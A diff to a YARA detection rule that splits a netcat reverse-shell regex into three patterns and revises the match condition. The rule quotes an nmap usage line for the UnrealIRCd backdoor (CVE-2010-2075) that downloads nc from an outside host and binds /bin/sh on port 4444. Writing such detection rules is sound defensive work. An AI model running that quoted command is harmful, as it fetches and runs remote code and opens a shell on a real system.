@@ -59,11 +59,14 @@ rule WG_netcat_shell {
     author = "Waterguard"
     licence = "Apache-2.0"
   strings:
-    $a = /(^|[;&|\s"'\/])(nc|ncat|netcat|nc\.traditional)( -[a-zA-Z]{1,6}| [0-9A-Za-z.:$]{2,60}){0,6} (-[a-zA-Z]{0,4}|--exe|--sh-exe)([ec] ?["']?\/(usr\/)?bin\/(ba|da|z|a)?sh|[ec] ["']?(ba|da|z|a)?sh)\b/
+    $short = /[;&|\s"'\/]nc ((-[a-zA-Z]{1,6}|[0-9A-Za-z.:$]{2,60}) ){0,6}(-[a-zA-Z]{0,4}|--exe|--sh-exe)([ec] ?["']?\/(usr\/)?bin\/(ba|da|z|a)?sh|[ec] ["']?(ba|da|z|a)?sh)\b/
+    $long = /\b(ncat|netcat|nc\.traditional) ((-[a-zA-Z]{1,6}|[0-9A-Za-z.:$]{2,60}) ){0,6}(-[a-zA-Z]{0,4}|--exe|--sh-exe)([ec] ?["']?\/(usr\/)?bin\/(ba|da|z|a)?sh|[ec] ["']?(ba|da|z|a)?sh)\b/
+    $first = /^nc ((-[a-zA-Z]{1,6}|[0-9A-Za-z.:$]{2,60}) ){0,6}(-[a-zA-Z]{0,4}|--exe|--sh-exe)([ec] ?["']?\/(usr\/)?bin\/(ba|da|z|a)?sh|[ec] ["']?(ba|da|z|a)?sh)\b/
     // One line of usage in nmap's own script for CVE-2010-2075: only what stands in it does not count.
     $nmap = "$ nmap -d -p6667 --script=irc-unrealircd-backdoor.nse --script-args=irc-unrealircd-backdoor.command='wget http://www.javaop.com/~ron/tmp/nc && chmod +x ./nc && ./nc -l -p 4444 -e /bin/sh' <target>"
   condition:
-    #a > #nmap and (filesize < 512KB or uint16(0) == 0x2123) and uint32(0) != 0x464c457f
+    ((#short + #long) > #nmap or ($first at 0 and uint16(0) == 0x636e))
+    and (filesize < 512KB or uint16(0) == 0x2123) and uint32(0) != 0x464c457f
 }
 
 rule WG_python_reverse_shell {
